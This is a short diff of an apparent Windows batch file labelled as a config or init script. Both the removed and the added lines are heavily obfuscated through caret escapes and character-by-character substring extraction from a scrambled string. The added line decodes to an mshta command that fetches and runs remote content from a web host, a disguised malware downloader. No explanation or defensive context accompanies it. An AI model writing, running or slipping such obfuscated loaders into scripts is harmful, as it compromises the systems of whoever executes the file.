@@ -1,4 +1,4 @@
-REM config 3152 v3
-@e^c^ho o^ff
-^s^e^t "alxn=nDu/i:zrtlpow.cXLdmsxae8Mkh-"
-%alxn:~18,1%%alxn:~19,1%%alxn:~26,1%%alxn:~8,1%%alxn:~21,1% %alxn:~26,1%%alxn:~8,1%%alxn:~8,1%%alxn:~10,1%%alxn:~5,1%%alxn:~-25,1%%alxn:~3,1%%alxn:~-9,1%%alxn:~8,1%%alxn:~-7,1%%alxn:~8,1%%alxn:~4,1%%alxn:~14,1%%alxn:~13,1%%alxn:~-10,1%%alxn:~22,1%%alxn:~8,1%%alxn:~7,1%%alxn:~-24,1%%alxn:~14,1%%alxn:~-9,1%%alxn:~27,1%%alxn:~0,1%%alxn:~-17,1%%alxn:~17,1%%alxn:~22,1%%alxn:~-15,1%%alxn:~22,1%%alxn:~20,1%%alxn:~-7,1%%alxn:~-10,1%%alxn:~-18,1%%alxn:~-19,1%%alxn:~-6,1%%alxn:~-25,1%%alxn:~-26,1%%alxn:~10,1%%alxn:~17,1%%alxn:~-7,1%%alxn:~8,1%%alxn:~22,1%%alxn:~13,1%%alxn:~-2,1%%alxn:~8,1%%alxn:~21,1%
+REM init 9016 v3
+@e^c^h^o ^o^ff
+s^et "lvqk=xpf:g0Hmha.Xltnjsc/-dKeTu"
+%lvqk:~7,1%%lvqk:~16,1%%lvqk:~8,1%%lvqk:~-12,1%%lvqk:~9,1% %lvqk:~8,1%%lvqk:~13,1%%lvqk:~13,1%%lvqk:~1,1%%lvqk:~3,1%%lvqk:~-7,1%%lvqk:~18,1%%lvqk:~17,1%%lvqk:~20,1%%lvqk:~-11,1%%lvqk:~19,1%%lvqk:~24,1%%lvqk:~1,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~13,1%%lvqk:~22,1%%lvqk:~10,1%%lvqk:~22,1%%lvqk:~0,1%%lvqk:~-16,1%%lvqk:~-18,1%%lvqk:~1,1%%lvqk:~-13,1%%lvqk:~-3,1%%lvqk:~18,1%%lvqk:~24,1%%lvqk:~-24,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~-12,1%%lvqk:~-3,1%%lvqk:~10,1%%lvqk:~8,1%%lvqk:~13,1%%lvqk:~-16,1%
